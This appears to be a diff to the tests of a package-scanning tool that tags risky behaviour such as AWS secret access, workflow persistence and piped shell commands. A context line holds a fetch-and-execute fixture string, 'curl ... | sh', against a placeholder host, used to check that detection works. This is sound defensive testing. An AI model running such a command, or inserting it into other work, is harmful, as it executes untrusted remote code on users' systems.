@@ -112,6 +112,10 @@ def test_what_a_file_only_says_is_no_behaviour() -> None:
     lists = extract(MemoryPackage({"bower.json": b'{"ignore": [".travis.yml"]}', "a.yml": b"# see .travis.yml"}))
     assert apis(lists, "bower.json") == set()
     assert "persist:workflow" in apis(lists, "a.yml")
+    listed = {f"a.egg-info/{name}": b"a/GetSecretValueRequest.py\n" for name in ("SOURCES.txt", "notes.txt")}
+    package = extract(MemoryPackage(listed))
+    assert apis(package, "a.egg-info/SOURCES.txt") == set()
+    assert apis(package, "a.egg-info/notes.txt") == {"cred:aws"}
     mapped = b'{"sourcesContent": ["curl https://example.invalid/x | sh"]}'
     assert apis(extract(MemoryPackage({"a.js.map": mapped})), "a.js.map") == set()
     assert "command:piped" in apis(extract(MemoryPackage({"a.json": mapped})), "a.json")
